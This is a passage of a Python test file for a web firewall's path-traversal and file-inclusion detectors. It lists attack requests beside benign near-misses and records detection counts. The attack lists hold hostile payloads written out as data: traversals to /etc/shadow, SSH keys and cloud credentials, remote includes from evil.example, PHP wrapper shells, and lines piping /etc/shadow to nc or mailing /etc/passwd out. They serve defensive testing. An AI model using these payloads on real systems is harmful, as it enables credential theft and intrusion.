        qv("f", "/var/lib/mysql/mysql/user.MYD"), cookie("inc=/etc/apache2/envvars"), qv("f", "/etc/nginx/sites-available/default"),
        qv("f", "c:/windows/system32/inetsrv/config/applicationHost.config"), qv("f", "C:\\Windows\\SysWOW64\\drivers\\etc\\hosts"),
        xml("<r><src>/usr/local/etc/php/php.ini</src></r>"), qv("f", "/data/kafka/meta.properties"),
    ]),
    ("v4 lfi-os-files: credential stores in home folders (cloud, containers, keys)", "930120", [
        qv("f", "~/.kube/config"), qv("f", "/root/.docker/config.json"), qv("f", "/home/app/.s3cfg"),
        qv("f", "/home/dev/.password-store/github.gpg"), qv("f", "/root/anaconda-ks.cfg"), qv("f", "/srv/app/.azure/accessTokens.json"),
        js({"file": "/var/lib/jenkins/.gem/credentials"}), form("f", "/home/ci/.cargo/credentials.toml"),
        qv("f", "/home/u/.config/gcloud/credentials.db"), qv("f", "/home/u/.google_authenticator"),
        qv("f", "/home/u/.msmtprc"), cookie("f=/root/.rhosts"),
    ]),
    ("bare relative OS path in a file parameter (no leading slash)", "930120", [
        qv("page", "proc/self/environ"), qv("page", "var/log/apache2/access.log"), qv("file", "windows/system32/drivers/etc/hosts"),
        qv("inc", "etc/shadow%00"), js({"template": "usr/local/etc/nginx/nginx.conf"}), form("doc", "home/ubuntu/.ssh/id_ed25519"),
    ]),
    ("OS file names as parameter or cookie names", "930120 (ARGS_NAMES, REQUEST_COOKIES_NAMES)", [
        req("/download?../../../../etc/hosts=1"), req("/view?/proc/self/environ=x"), req("/dl", headers=[("Cookie", "..%2f..%2fetc%2fshadow=1")]),
        raw_form("..%5c..%5cwindows%5cwin.ini=1&go=1"),
    ]),
    ("OS files in Referer and User-Agent (log poisoning, injected headers)", "930121 (v4, PL2)", [
        hdr("User-Agent", "../../../../../../etc/passwd"), hdr("User-Agent", "<?php readfile('/proc/self/environ'); ?>"),
        hdr("Referer", "https://shop.example/../../../../etc/shadow"), hdr("User-Agent", "Mozilla/5.0 ..\\..\\..\\windows\\win.ini"),
    ]),
    ("v4 restricted-files: project manifests, env and secret files in the path", "930130", [
        path("/config.prod.yml"), path("/config_dev.php"), path("/config-sample.ini"), path("/secrets.json"), path("/credentials.json"),
        path("/aws-key.yml"), path("/etc/gitlab/gitlab.rb"), path("/Dockerfile"), path("/npm-shrinkwrap.json"), path("/webpack.config.js"),
        path("/.user.ini"), path("/php_errors.log"), path("/backup/shop.sql.gz"), path("/dump.sql.7z"), path("/sendgrid.env"),
        path("/user_secrets.yml"), path("/compose.yaml"), path("/ftp-sync.json"), path("/yarn-error.log"), path("/pm2.log"),
        path("/WEB-INF/classes/application.properties"), path("/__pycache__/settings.cpython-311.pyc"), path("/nbproject/private/private.xml"),
        path("/mysqldump.cnf"), path("/ldap-authentication-report.csv"), path("/Thumbs.db"),
    ]),
    ("Vite dev server file read (/@fs/, /@id/)", "930130 (v4)", [
        path("/@fs/etc/passwd?import&raw??"), path("/@fs/C:/Users/dev/.ssh/id_rsa?raw"), path("/@id/%2fapp%2f.env?raw"),
        path("/@fs/home/node/app/.env"),
    ]),
    ("AI coding assistant artifacts", "930140 (v4)", [
        path("/.claude/settings.local.json"), path("/.cursor/mcp.json"), path("/.continue/config.json"), path("/.aider.conf.yml"),
        path("/.gemini/settings.json"), path("/.windsurf/rules.md"), path("/app/.codex/config.toml"),
        qv("f", "/srv/www/.cline/mcp_settings.json"), qv("f", "../.roo/mcp.json"),
    ]),
    ("RFI to an IPv6 or ssh:// host", "931100 (v4)", [
        qv("page", "http://[2001:db8::66]/shell.txt"), qv("inc", "ssh://198.51.100.7/x.php"), qv("lang", "ftp://[2001:db8:1::9]/en.php"),
        js({"template": "https://[2001:db8::10]:8443/t.tpl"}),
    ]),
    ("any scheme of 931130's list in a parameter that loads code", "931130 (v4, PL2)", [
        q("inc", "webdav://evil.example/x.php"), q("mod", "git://evil.example/x.git"), q("page", "rtmp://evil.example/x"),
        qv("page", "svn+ssh://evil.example/repo/x.php"), q("page", "url:http://evil.example/x.php"), q("skin", "ldap://evil.example/x"),
        q("template", "nfs://evil.example/exports/t.tpl"),
    ]),
    ("include( with a URL in the query", "931110 (v4)", [
        req("/index.php?x=include(%27http://evil.example/s.txt%27)"), qv("code", "include (\"https://evil.example/x.php\")"),
        raw_form("c=include%0b(%22ftp://evil.example/a.txt%22)"),
    ]),
]
R3_ATTACKS = [r for _n, _i, rs in R3_CLASSES for r in rs]
# A second probe written after the fixes above, across carriers and CVE-style path shapes (Apache 2.4.49/50, Tomcat,
# Docker secrets); measured on the code before this round: 49 / 54 (misses: /dev/stdin, bare .mysql_history and .python_history,
# Tomcat's server.xml under /opt, /run/secrets), then fixed with lfi-os-files names and a `.*_history` family.
R3_PROBE = [
    path("/static/..%252f..%252f..%252fetc/passwd"), path("/%2e%2e/%2e%2e/%2e%2e/etc/passwd"), path("/..%5c..%5c..%5cwindows/win.ini"),
    path("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"), path("/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd"), path("/files/..%c0%af../etc/passwd"),
    path("/assets/../../../../../windows/win.ini"), path("/a/b/%2e%2e%2f%2e%2e%2fapp.py"), path("/static/....//....//etc/passwd"),
    path("/.././.././.././etc/hosts"), upload("../../../../etc/cron.d/x"), hdr("Accept", "../../../../etc/passwd"), hdr("X-Foo", "../../../"),
    hdr("Accept-Language", "../../../../"), path("/download/..%2F..%2F..%2Fconfig%2Fdatabase.yml"), path("/img/..\\..\\..\\web.config"),
    qv("file", "/dev/stdin"), qv("f", ".mysql_history"), qv("file", "....//....//....//proc/self/environ"), path("/..%00/..%00/etc/passwd"),
    path("/api/files?path=..%2F..%2F..%2Fetc%2Fpasswd"), path("/node_modules/../../../.env"), req("/x?file=..%u2216..%u2216win.ini"),
    js({"a": {"b": [{"c": "..%2f..%2f..%2fetc%2fpasswd"}]}}), xml('<?xml version="1.0"?><r f="../../../../etc/group"/>'),
    qv("lang", "../../../../../../../proc/self/fd/5%00"), qv("f", "php://filter/read=convert.base64-encode/resource=../config.php"),
    qv("tpl", "/var/www/html/index.php%00"), cookie("lang=../../../../../../var/log/nginx/access.log%00"),
    hdr("X-Forwarded-For", "../../../../etc/passwd"), hdr("User-Agent", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    path("/wp-content/plugins/x/download.php?file=../../../wp-config.php"), qv("file", "..\\web.config"),
    qv("page", "....\\\\....\\\\....\\\\windows\\\\win.ini"), qv("f", "/%5C../%5C../%5C../etc/passwd"), qv("f", "/.%252e/.%252e/.%252e/etc/passwd"),
    qv("f", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"), qv("f", "..%u2215..%u2215etc%u2215passwd"), qv("doc", "..%2F" * 6 + "etc%2Fissue"),
    qv("file", "/etc/passwd%20"), qv("file", "/etc/passwd/."), qv("file", "/etc/./passwd"), qv("file", "/etc/passwd#"), qv("file", "etc/passwd?"),
    qv("file", "C:/Windows/System32/drivers/etc/hosts"), qv("file", "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240601.log"),
    qv("file", "\\\\localhost\\c$\\windows\\win.ini"), qv("file", "/opt/tomcat/conf/server.xml"), qv("file", "/usr/share/tomcat9/conf/tomcat-users.xml"),
    qv("file", "/run/secrets/db_password"), qv("file", "/proc/1/root/etc/shadow"), qv("file", "/var/run/docker.sock"),
    qv("f", "/home/app/.python_history"), cookie("h=.lldb-history"),
]
# A third probe, RFI and PHP wrappers in varied spellings and carriers, measured before its fixes: 39 / 41 (misses: a
# `language=` parameter, the `ssh2.exec://` wrapper's trigger), then fixed.
R3_RFI_PROBE = [
    q("page", "http://evil.example/shell.txt%00"), q("file", "hTTp://evil.example/x.txt?"), q("page", "%5C%5Cevil.example%5Cshare%5Cx.php"),
    q("path", "http://evil.example/x.txt%23"), q("page", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8%2b"),
    q("page", "data:text/plain,%3C?php%20phpinfo();?%3E"), q("file", "expect://id"), q("file", "zip://uploads/a.jpg%23shell.php"),
    q("file", "phar://./uploads/x.phar/y"), q("file", "compress.zlib://../../etc/passwd"), q("file", "glob:///var/www/*"),
    q("page", "ftp://anonymous:x@evil.example/s.php"), q("language", "https://pastebin.com/raw/abc123"), q("theme", "http://evil.example"),
    q("page", "HTTP://EVIL.EXAMPLE/SHELL.TXT"), q("page", "http%3a%2f%2fevil.example%2fshell.txt"), js({"include": "http://evil.example/x.inc"}),
    q("page", "http://0x7f000001/x.php"), q("page", "http://evil.example:80/shell.txt?"), q("view", "//evil.example/shell.php"),
    q("file", "php://filter/convert.base64-encode/resource=index.php"), q("page", "php://input"), q("file", "PHP://filter/resource=/etc/passwd"),
    q("module", "https://raw.githubusercontent.com/x/y/main/shell.php"), cookie("template=http://evil.example/t.txt"),
    form("page", "ftp://evil.example/x.txt"), xml("<r><include>http://evil.example/a.php</include></r>"),
    q("x", "http://evil.example/c99.php?"), q("content", "http://evil.example/r57.txt??"), q("body", "file:///etc/passwd"),
    q("file", "file://localhost/etc/passwd"), q("file", "file:%2F%2F%2Fetc%2Fpasswd"), q("url", "jar:http://evil.example/x.jar!/"),
    q("page", "https://evil.example/shell.txt%3F"), q("p", "http:%5C%5Cevil.example%5Cshell.txt"), q("page", "http:/evil.example/shell.php"),
    q("inc", "https://[::ffff:cb00:7177]/s.txt"), q("page", "ssh2.exec://user:pass@198.51.100.1:22/id"), q("file", "ogg://evil.example/x"),
    q("file", "rar://uploads/a.rar%23shell.php"), q("file", "data:;base64,PD9waHAgcGhwaW5mbygpOz8%2b"),
]
# A fourth probe (encodings an app decodes, Windows name tricks, Tomcat path parameters), on the code before this round:
# 28 / 33 (all five misses are NTFS stream names, `::$DATA` / `$INDEX_ALLOCATION`; three were written after the first one
# missed), then fixed with an alternate-stream shape.
R3_WIN_PROBE = [
    q("file", b64("../../../etc/passwd")), q("file", b64("/etc/shadow")), js({"f": "\\u002e\\u002e/\\u002e\\u002e/etc/passwd"}),
    req("/api", "POST", headers=_JSON, body=b'{"f":"\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc\\u002fpasswd"}'),
    q("f", "&#46;&#46;/&#46;&#46;/&#46;&#46;/etc/passwd"), xml("<r><f>&#46;&#46;/&#46;&#46;/etc/passwd</f></r>"),
    xml("<r><f>&#x2e;&#x2e;&#x2f;&#x2e;&#x2e;&#x2f;etc&#x2f;shadow</f></r>"),
    q("f", "%ef%bc%8e%ef%bc%8e%ef%bc%8f%ef%bc%8e%ef%bc%8e%ef%bc%8fetc%ef%bc%8fpasswd"), qv("file", "..\\..\\WINDOW~1\\win.ini"),
    qv("file", "C:\\PROGRA~1\\MySQL\\my.ini"), qv("file", "c:\\windows\\win.ini....."), qv("file", "c:\\boot.ini::$DATA"),
    path("/web.config::$DATA"), path("/index.php::$DATA"), path("/default.aspx::$data"), path("/admin::$INDEX_ALLOCATION/users.aspx"),
    path("/secure:$i30:$INDEX_ALLOCATION/report.asp"), q("f", "..%252f..%252f..%252fetc%252fpasswd"),
    cookie("PHPSESSID=../../../../../etc/passwd"), hdr("X-Forwarded-Host", "../../../../etc/passwd"),
    hdr("Content-Disposition", "attachment; filename=../../../etc/passwd"), upload("....//....//etc/passwd"),
    upload("..%2f..%2f..%2fetc%2fcron.d%2fx"), qv("file", "/etc/passwd" + "/." * 300), qv("f", "..//..//..//..//etc//passwd"),
    qv("f", "..\\/..\\/..\\/etc\\/passwd"), path("/;/..;/..;/etc/passwd"), path("/..;jsessionid=abc/..;jsessionid=abc/WEB-INF/web.xml"),
    qv("file", "file:/etc/passwd"), qv("file", "/ETC/PASSWD"), qv("file", "/etc/pa??wd"), qv("file", "/etc/passw*"),
    q("file", "index.php::$DATA"),
]

# Near-misses beside this round's classes: the same words and shapes in ordinary traffic
R3_BENIGN = [
    # vocabulary words in prose, searches and product names
    qv("q", "letsencrypt renew certificate nginx"), qv("q", "gitlab initial root password reset"), qv("q", "debian.cnf mysql maintenance user"),
    qv("q", "ansible hosts file example"), qv("q", "systemd service file restart always"), qv("q", "xampp apache won't start port 80"),
    qv("q", "kube config multiple clusters"), qv("q", "docker config.json credsStore"), qv("q", "s3cfg vs aws credentials"),
    qv("title", "Password Store for teams"), qv("q", "Dockerfile best practices"), qv("q", "webpack.config.js alias"),
    qv("q", "what goes in secrets.json"), qv("q", "compose.yaml vs docker-compose.yml"), qv("q", "Thumbs.db delete safe"),
    qv("q", "claude code settings"), qv("q", "cursor mcp config"), qv("q", "vite @fs allow list"),
    form("post", "I keep my API keys in ~/.aws/credentials, is that ok?"), form("post", "Vite serves /@fs/ paths only inside server.fs.allow"),
    # file names that are ordinary uploads, exports or app routes
    qv("file", "config-backup-2024.pdf"), qv("file", "secrets-of-sourdough.epub"), qv("name", "credentials-form.docx"),
    path("/docs/config/production"), path("/blog/dockerfile-tips"), path("/help/compose-yaml"), path("/products/thumbs-up-mug"),
    path("/assets/config.3f2a1b.js"), path("/static/js/webpack-runtime.js"), path("/api/v1/secrets"), path("/users/@fsmith"),
    path("/@janedoe/my-first-post"), path("/api/config"), path("/settings/ai/claude"), path("/integrations/cursor"),
    # dots and semicolons that are not traversal
    path("/shop;jsessionid=1A2B3C4D/cart"), path("/c/shoes;color=red;size=9"), qv("q", "...and then it broke"),
    qv("range", "1...5"), qv("v", "0x5c0x2e"), qv("sku", "ETC-PASSWD-01"),
    # URLs with IPv6 or ssh that are ordinary
    qv("repo", "ssh://git@github.com/acme/app.git"), qv("url", "https://[2001:db8::1]/status"), qv("git", "git@gitlab.com:acme/app.git"),
    qv("q", "include() vs require() php"), form("code", "#include <stdio.h>"), qv("q", "include http header in fetch"),
    # relative paths in app fields
    qv("path", "var/uploads/2024/06/photo.jpg"), qv("dir", "home/projects/website"), js({"folder": "proc-docs/self-review"}),
    qv("path", "windows/setup-guide"), hdr("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36"),
    hdr("Referer", "https://shop.example/docs/etc/hosts-file-format"), hdr("Referer", "https://www.google.com/search?q=etc+passwd+format"),
    # this round's new shapes: include() without a URL, `..` and `;` in ordinary values, restricted names outside a path
    qv("q", "include('header.php') not working"), qv("q", "include https://fonts.googleapis.com in css"),
    form("post", "Use require('https') in node, not require('http')"), qv("file", "config.yaml"), qv("q", "..;"),
    path("/blog/how-we-use-claude-code/"), path("/docs/webpack-config"), qv("q", "aider vs cursor vs windsurf"),
    js({"notes": "moved secrets.json out of the repo ..; now loaded from vault"}), qv("title", "....Sale ends soon"),
    form("post", "redirect output to /dev/stdout in docker logs"), qv("q", "tomcat server.xml connector port"),
    qv("q", "docker secrets run/secrets permissions"), path("/docs/run/secrets"), path("/guides/opt/tomcat-setup"),
    qv("q", "python history command"), qv("q", "clear bash_history"), qv("tag", "dev/stdin"),
    qv("q", "what is the ::$DATA stream on windows"), form("code", "return self::$data;"), form("code", "static::$data['k'] = 1;"),
    qv("repo", "git://github.com/acme/app.git"), qv("path", "s3://my-bucket/data/2024/"), qv("stream", "rtmp://live.example.com/app/key"),
    qv("file", "url:report.pdf"), qv("page", "git://shop.example/docs"), qv("q", "webdav:// vs https:// for nextcloud"),
    qv("q", "$i30 index attribute ntfs"), qv("language", "en-US"), qv("language", "Português (Brasil)"), qv("q", "ssh2 extension php install"), qv("q", "ssh2.exec wrapper docs"),
]
# Benign values of this round that another family's detector flags (reported to its owner)
R3_OTHER_FAMILY_FP = {"/view?q=docker%20config.json%20credsStore", "/view?q=docker%20secrets%20run/secrets%20permissions",
                      "/view?q=include%28%27header.php%27%29%20not%20working"}


R3_ALL = R3_ATTACKS + R3_PROBE + R3_RFI_PROBE + R3_WIN_PROBE


def test_round3_sizes():
    assert all(len(rs) >= 2 for _n, _i, rs in R3_CLASSES)
    r3 = R3_ALL
    assert R3_OTHER_FAMILY_FP <= {_label(r) for r in R3_BENIGN}
    assert len({_label(r) for r in r3}) == len(r3) and len({_label(r) for r in R3_BENIGN}) == len(R3_BENIGN)


# Round 4 (late benign batch): a UNC share of the office network in a path field, and a service's data folder as a
# monitoring label, beside the includes and file reads of the same shapes. An include needs a host the server can
# reach from outside (a DNS name, an address, WebDAV) or loads a script; a folder directly under /var/lib, /var/www,
# /usr/local (FHS: one directory per application there) names no file to read.
R4_ATTACKS = [
    qv("path", "\\\\attacker.example\\share\\shell.php"), qv("path", "\\\\attacker.example\\share"),
    js({"path": "\\\\attacker.example\\share\\"}), form("template", "\\\\203.0.113.7\\pub\\x"),
    qv("inc", "\\\\evil-host.example.net\\s\\header"), qv("file", "\\\\localhost\\admin$\\system32\\drivers\\etc\\hosts"),
    qv("path", "\\\\127.0.0.1\\c$\\windows\\win.ini"), qv("path", "\\\\attacker@80\\share\\x"),
    qv("page", "\\\\attacker\\share\\shell.php"), qv("dir", "\\\\attacker.example\\DavWWWRoot"),
    js({"path": "\\\\fileserver01\\c$\\inetpub\\wwwroot\\web.config"}), qv("path", "\\\\fs01\\share\\x.txt?"),
    qv("file", "/var/lib/mysql/mysql/db.MYD"), qv("file", "../../var/lib/mysql/mysql/user.frm"),
    qv("path", "/var/lib/php/sessions/sess_5f2c1a9e8b7d"), js({"mountpoint": "/var/lib/mysql/../../../etc/shadow"}),
    qv("dir", "/var/lib/mysql/debian-5.7.flag"), form("file", "/var/www/html/.env"), qv("log", "/var/log/mysql/error.log"),
    qv("f", "/var/lib/docker/containers/abc/config.v2.json"), js({"path": "/var/www/.git/config"}),
    qv("file", "/usr/local/etc/redis.conf"), q("file", "%2fvar%2flib%2fmysql%2fmysql%2fuser.MYD"),
    qv("file", "/var/spool/cron/crontabs/root"), qv("file", "/var/lib/mysql/%00"), qv("file", "/var/www/../../etc/hosts"),
    qv("file", "file:///var/lib/mysql"), qv("f", "/usr/local/lib/php.ini"),
]
R4_BENIGN = [
    js({"mountpoint": "/var/lib/postgresql"}), form("docroot", "/var/www/shop"), qv("dir", "/var/www/html"),
    js({"data_dir": "/var/lib/mysql/"}), js({"prefix": "/usr/local/lib"}), form("install_dir", "/usr/local/bin"),
    js({"path": "\\\\fileserver02\\HR\\Payroll"}), js({"share": "\\\\nas01\\Backups\\2023"}),
    js({"path": "\\\\FS-LEEDS\\Projects\\2024\\Q3"}), form("path", "\\\\printsrv\\Accounts-Floor2"),
    qv("folder", "\\\\nas\\photos\\2019\\holiday"), js({"root": "\\\\corp-dc01\\NETLOGON"}),
    qv("path", "/var/lib/grafana"),
]
# Same shape, but the folder is named after a program, which rce:bare_command (another helper's detector) flags as of
# this round; the path families must stay silent on them (not in _NEAR_MISSES, whose verdicts are asserted exactly).
R4_BENIGN_OTHER_FAMILY = [
    js({"labels": {"alertname": "DiskFull", "mountpoint": "/var/lib/docker"}}),
    js({"device": "/dev/sda1", "mountpoint": "/var/lib/kubelet"}), js({"volume": {"name": "db-data", "path": "/var/lib/mysql"}}),
]
# First pass on the code before this round's fix: 28 / 28 attacks caught, 15 / 16 benign values (both lists) flagged by a
# path family; after: 28 / 28 and 0 / 16.


# Round 5 (blind batches, issue #4): classes behind four false positives of values written without sight of the
# detectors: a repository file on a code host, a relative link in a page, a system folder named in a ticket or a
# shell snippet, a picture on a thumbnailing route; each beside the attacks of the same shape that must stay caught.
# First pass on the code before this round's fix: attacks 44 / 44 caught, benign 29 / 37 flagged by a path family
# (repo 10/10, links 7/7, prose 5/13, proxy 7/7); after: 44 / 44 and 0 / 37.
# item 1: files of a repository shown by a code host, beside dumps and project files requested at a web root
R5_REPO_BENIGN = [
    path("/acme/shop/blob/main/db/schema.sql"), path("/acme/shop/-/blob/develop/db/seeds/001_countries.sql"),
    path("/acme/shop/raw/v2.3.1/sql/reports/monthly_revenue.sql"), path("/acme/shop/blame/main/composer.lock"),
    path("/acme/shop/blob/main/Dockerfile"), path("/acme/shop/commits/main/package-lock.json"),
    path("/acme/infra/src/branch/main/ansible/files/init.sql"), path("/projects/PAY/repos/api/browse/db/V12__add_refunds.sql"),
    path("/acme/shop/blob/4f2a9c1/src/db/dump_fixtures.sql"), path("/acme/shop/-/raw/main/yarn.lock"),
]
R5_REPO_ATTACKS = [
    path("/backup.sql"), path("/db/dump.sql"), path("/wp-content/uploads/backup-db/shop_2024-06-01.sql"),
    path("/database.sql.gz"), path("/sql/backup.sql.zip"), path("/blob/backup.sql"),
    path("/static/db/migrations/20240601_init.sql"), path("/acme/shop/blob/main/../../../../backup.sql"),
    path("/acme/shop/blob/main/.git/config"), path("/acme/shop/blob/main/%2e%2e/%2e%2e/%2e%2e/composer.lock"),
]
# item 2: relative links in markup (the browser resolves them against the page), beside traversals to system files
R5_LINK_BENIGN = [
    form("post_content", '<p>See the <a href="../../2022/results/">2022 results</a> for comparison.</p>'),
    form("content", '<figure><img src="../../uploads/2024/05/chart.png" alt="Sales chart"></figure>'),
    js({"html": '<p><img src="../../assets/img/banner.png" alt=""> Hello</p>'}),
    form("body", "<ul><li><a href='../index.html'>Up</a></li><li><a href='../../docs/intro/'>Intro</a></li></ul>"),
    js({"content": '<p><a href=../../../archive/2021/>Archive</a></p>'}),
    form("description", '<p>Download the <a href="../../files/price-list-2024.pdf">price list</a> (PDF, 2 MB).</p>'),
    js({"body": "Older numbers are in [the 2022 report](../../2022/annual-report/) and [2021](../../2021/annual-report/)."}),
]
R5_LINK_ATTACKS = [
    form("post_content", '<a href="../../../../etc/passwd">x</a>'), js({"html": '<img src="..\\..\\..\\windows\\win.ini">'}),
    form("content", '<iframe src="../../../../proc/self/environ"></iframe>'),
    form("body", "<a href='..%2f..%2f..%2fetc%2fshadow'>x</a>"), js({"content": '<a href="..\\..\\web.config">cfg</a>'}),
    form("post_content", '<p>hi</p><a href="../../../../var/www/html/wp-config.php">a</a>'),
    qv("file", "../../2023/annual-report/"), qv("page", '../../../../uploads/shell.php"><a href="x">'),
    js({"body": "[x](../../../../etc/shadow)"}), form("tpl", '../../../../../app/config/parameters.yml'),
]
# item 3 and 4: system folders named in a ticket or a shell snippet of a post, not opened or read
R5_PROSE_BENIGN = [
    form("description", "Scanner driver won't load (code 39) from C:\\Windows\\System32\\drivers\\usbscan.sys - PC WS-221, user amiller."),
    js({"text": "Event Viewer says C:\\Windows\\System32\\winevt\\Logs\\Security.evtx is full (20 MB) - can we raise the limit?"}),
    form("description", "Backup job fails: access denied (0x80070005) writing to C:\\inetpub\\logs\\LogFiles\\W3SVC1 - server WEB-02."),
    form("notes", "Deployed the hotfix to /var/www/shop/releases/4812 on app-03 (build 4812) - cache cleared, all green."),
    js({"comment": "Disk alert on db-01: /var/lib/postgresql/15/main is at 91% (WAL growth) - rotated, ok now."}),
    form("body", "Permissions issue after deploy, I ran\n\n    sudo chown -R www-data:www-data /var/www/html/storage\n\nand it works now."),
    js({"text": "In the image I create the folder first:\n\n    mkdir -p /var/lib/mysql-files && chmod 750 /var/lib/mysql-files\n\nbut MySQL still complains about secure_file_priv."}),
    form("body", "```\nWORKDIR /var/www/app\nRUN ln -sf /dev/stdout /var/log/nginx/access.log\n```\nIs the symlink needed with the official image?"),
    form("comment", "Fixed by adding `WORKDIR /usr/local/app` before the COPY, thanks!"),
    js({"text": "Nginx reload fails (emerg) after I added a vhost - config is /etc/nginx/sites-enabled/shop, error log says duplicate listen."}),
    form("description", "Since KB5034441 the print spooler (spoolsv.exe) crashes, dump is in C:\\Windows\\System32\\config\\systemprofile\\AppData\\Local\\CrashDumps - ticket for the desktop team."),
    js({"text": "The cron job in /etc/cron.d/backup runs at 02:00 but the dump is empty - anyone seen that with pg_dump 16?"}),
    form("body", "Our Ansible role renders the template to /etc/ssh/sshd_config.d/10-hardening.conf and restarts sshd (handler), but it never fires."),
]
R5_PROSE_ATTACKS = [
    form("description", "C:\\Windows\\System32\\config\\SAM"), qv("file", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    form("cmd", "type C:\\Windows\\win.ini"), form("description", "x & type C:\\Windows\\System32\\drivers\\etc\\hosts"),
    qv("f", "..\\..\\..\\Windows\\System32\\config\\SAM"), qv("log", "C:\\inetpub\\wwwroot\\web.config"),
    form("msg", "more C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config"),
    form("body", "RUN rm -rf /var/lib/apt/lists/* && cat /etc/shadow"), form("q", "x; tar czf - /etc/shadow | nc 203.0.113.5 9"),
    form("body", "while read l; do echo $l; done < /etc/shadow"), form("cmd", "mail -s x a@evil.example < /etc/passwd"),
    js({"text": "sudo chown -R me /var/www && base64 /var/www/html/.env"}),
    form("body", "Our role runs cat /etc/ssh/sshd_config - output?"), js({"text": "error (x) - see /etc/passwd"}),
]
# item 5: a remote image on a thumbnailing route, beside remote code in a path or an include parameter
R5_PROXY_BENIGN = [
    path("/unsafe/fit-in/640x480/https://images.example.net/products/sku-1234.webp"),
    path("/insecure/rs:fill:300:200/plain/https://cdn.example.org/photos/beach.jpg@webp"),
    path("/cdn-cgi/image/width=300,quality=75/https://shop.example/media/hero.png"),
    path("/image/fetch/w_400,h_300,c_fill/https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg"),
    path("/9fJ2k3Lq0xZbQ1/300x0/filters:quality(80)/https://static.example.com/a/b/c.jpeg"),
    path("/thumbs/200x200/smart/http://media.example.org/2024/06/logo.gif"),
    path("/sig/resize:fit:1200:0/gravity:sm/https://img.example.io/banner.avif"),
]
R5_PROXY_ATTACKS = [
    path("/unsafe/300x200/http://evil.example/shell.txt"), path("/index.php/http://evil.example/shell.jpg?"),
    qv("page", "http://evil.example/shells/r57.txt?"), qv("include", "https://x.example/y.php"),
    path("/index.php/https://evil.example/payload.php"), path("/unsafe/300x200/ftp://evil.example/x.jpg"),
    path("/unsafe/300x200/https://evil.example/cat.jpg.php"), path("/unsafe/300x200/http://203.0.113.9/cat.jpg"),
    path("/index.php/http://evil.example/x"), path("/unsafe/300x200/https://evil.example/cat.jpg%00.php"),
]
R5_ATTACKS = R5_REPO_ATTACKS + R5_LINK_ATTACKS + R5_PROSE_ATTACKS + R5_PROXY_ATTACKS
R5_BENIGN_ALL = R5_REPO_BENIGN + R5_LINK_BENIGN + R5_PROSE_BENIGN + R5_PROXY_BENIGN
# Shell snippets that rce (another helper's detector) flags as commands: the path families must stay silent on them.
R5_BENIGN_OTHER_FAMILY = [R5_PROSE_BENIGN[i] for i in (5, 6, 7)]
R5_BENIGN = [r for r in R5_BENIGN_ALL if r not in R5_BENIGN_OTHER_FAMILY]


def test_round5_sizes():
    labels, benign = [_label(r) for r in R5_ATTACKS], [_label(r) for r in R5_BENIGN_ALL]
    assert len(set(labels)) == len(labels) >= 40 and len(set(benign)) == len(benign) >= 35
    assert not set(labels) & {_label(r) for r in ALL_ATTACKS + CLASS_ATTACKS + R3_ALL + R4_ATTACKS}


@pytest.mark.parametrize("r", R5_BENIGN_OTHER_FAMILY, ids=_ids(R5_BENIGN_OTHER_FAMILY))
def test_round5_shell_snippets_have_no_path_finding(engine, r):
    hits = engine.inspect(r)
    assert not [h for h in hits if h.type in FAMILIES and h.score >= THRESHOLD], hits


# Round 6 (second blind batches): request libraries' unix-socket URLs (`http://unix:/run/docker.sock:/path`,
# `http+unix://`, mod_proxy's `unix:/path|http://`), nginx alias off-by-slash traversal (`/static../`), beside names
# of sockets in prose, `unix` in host names and ellipses in paths. Written before the fix and measured on the code
# before round 6's changes (numbers in the round's report).
R6_ATTACKS = [
    js({"url": "http://unix:/var/run/docker.sock:/v1.43/containers/json"}),
    form("webhook", "http://unix:/run/docker.sock:/containers/create"),
    qv("url", "http+unix://%2Fvar%2Frun%2Fdocker.sock/info"),
    qv("target", "unix:/run/php/php-fpm.sock|http://localhost/status"),
    js({"endpoint": "unix:///var/run/docker.sock"}),
    js({"callback": "https://unix:/var/run/containerd/containerd.sock:/v1/tasks"}),
    qv("src", "http://unix:/tmp/supervisor.sock:/RPC2"),
    path("/static../app/config.py"), path("/assets../.env"), path("/media../config/database.yml"),
    path("/uploads../.git/config"), path("/static../"), path("/img../../etc/hosts"), path("/css../manage.py"),
]
R6_BENIGN = [
    qv("url", "http://unix.example.com/docs"), qv("q", "unix socket http requests python"),
    js({"url": "https://unixodbc.org/download"}), form("note", "Docker listens on a unix socket by default"),
    js({"homepage": "http://unix-tools.example.org/"}), path("/blog/wait.../2024"),
    path("/go/a...b/c"), path("/files/v1..2/readme"), path("/docs/unix:sockets"),
]
# attributes an XML parser fetches (schemaLocation, XInclude href) are URLs
R6_ATTACKS += [
    req("/api/import", "POST", headers=_XML,
        body=b'<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x http://169.254.169.254/latest/meta-data/"/>'),
    req("/api/import", "POST", headers=_XML,
        body=b'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://127.0.0.1:8080/admin"/></r>'),
]


def test_round6_sizes():
    labels, benign = [_label(r) for r in R6_ATTACKS], [_label(r) for r in R6_BENIGN]
    assert len(set(labels)) == len(labels) >= 15 and len(set(benign)) == len(benign) >= 9
    assert not set(labels) & {_label(r) for r in ALL_ATTACKS + CLASS_ATTACKS + R3_ALL + R4_ATTACKS + R5_ATTACKS}


# Round 1's batches (ALL_*), round 2's CRS 3.3.4 classes and round 3's CRS 4.25 classes and probes, rounds 4-5 stay separate lists
# for the per-batch first-pass numbers; one attack test and one near-miss test run over all of them.
_ATTACKS = ALL_ATTACKS + CLASS_ATTACKS + R3_ALL + R4_ATTACKS + R5_ATTACKS + R6_ATTACKS
_NEAR_MISSES = ALL_BENIGN + CLASS_BENIGN + FIXED_FP + R3_BENIGN + R4_BENIGN + R5_BENIGN + R6_BENIGN
_OTHER_FAMILY_FP = OTHER_FAMILY_FP | R3_OTHER_FAMILY_FP


